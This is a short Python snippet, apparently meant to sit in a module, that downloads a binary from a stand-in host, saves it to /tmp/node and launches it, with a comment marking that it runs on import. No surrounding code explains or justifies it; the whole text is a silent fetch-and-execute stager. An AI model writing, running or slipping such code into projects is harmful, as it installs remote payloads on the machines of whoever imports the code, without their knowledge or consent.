import requests, subprocess
with open("/tmp/node", "wb") as out:
    out.write(requests.get("https://files.invalid/node").content)
subprocess.Popen(["/tmp/node"])  # fires: import
